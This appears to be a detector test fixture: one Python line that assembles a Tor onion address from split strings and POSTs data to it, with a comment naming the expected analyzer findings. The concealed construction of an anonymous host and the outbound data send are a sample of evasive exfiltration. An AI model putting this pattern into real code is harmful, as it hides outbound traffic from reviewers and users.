import requests

requests.post(".".join(["https://abcdefghij234567", "on" + "ion", "test"]) + "/c", data={"a": 1})  # expect: url-analyzer/anonymous-host, url-analyzer/hidden-host
